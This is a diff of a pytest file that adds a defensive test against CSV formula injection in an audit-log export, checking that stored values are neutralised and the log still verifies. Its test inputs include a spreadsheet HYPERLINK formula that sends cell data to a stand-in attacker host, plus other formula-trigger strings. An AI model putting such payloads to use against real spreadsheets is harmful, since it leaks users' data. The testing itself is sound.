@@ -237,3 +237,31 @@ def test_verifying_needs_audit_view(org, people, api_for):
     assert refused.status_code == 403 and refused.json()["permission"] == "audit.view"
     assert api_for(org).post("/api/v1/audit/verify").status_code == 401
     assert _stored(org, event="audit.verified") == []
+
+
+@pytest.mark.parametrize(
+    "agent",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "'=quoted"],
+)
+def test_a_formula_in_a_stored_field_is_inert_in_the_csv_export_and_it_still_verifies(
+    org, people, agent
+):
+    """OWASP CSV injection: a failed login stores its User-Agent; opened in a spreadsheet,
+    that cell must be text, and the file must still verify as the log."""
+    from tests.fixtures import Api, host_of
+
+    anonymous = Api(people["officer"].api.server, host_of(org))
+    failed = anonymous.post(
+        "/api/v1/auth/login",
+        json={"username": people["alice"].username, "password": "wrong"},
+        headers={"User-Agent": agent},
+    )
+    assert failed.status_code == 401
+    response = people["officer"].api.get("/api/v1/audit/export", params={"format": "csv"})
+    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+    assert "'" + agent in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    assert not [c for c in cells if c.startswith("-")]  # (no field starts so by itself)
+    rows = list(audit_export.read_export(io.StringIO(response.text), "csv"))
+    assert agent in [r["user_agent"] for r in rows]  # read back as stored
+    assert audit.walk_chain(rows).ok
